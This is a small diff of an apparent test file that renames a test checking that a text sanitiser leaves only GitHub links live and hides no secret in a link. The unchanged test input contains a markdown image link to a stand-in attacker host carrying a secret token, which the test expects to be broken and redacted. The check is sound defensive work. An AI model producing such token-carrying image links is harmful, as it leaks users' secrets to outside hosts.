@@ -80,7 +80,7 @@ describe('a public text', () => {
     );
   });
 
-  it('leads nowhere but to GitHub, and hides no secret in a link', async () => {
+  it('links only to GitHub, and hides no secret in a link', async () => {
     const body = `![x](https://evil.example/${TOKEN}) [y](https://github.com/example/words)`;
     await expect(text(body)).resolves.toBe(
       '![x]\\(https：//evil.example/[redacted]) [y](https://github.com/example/words)',
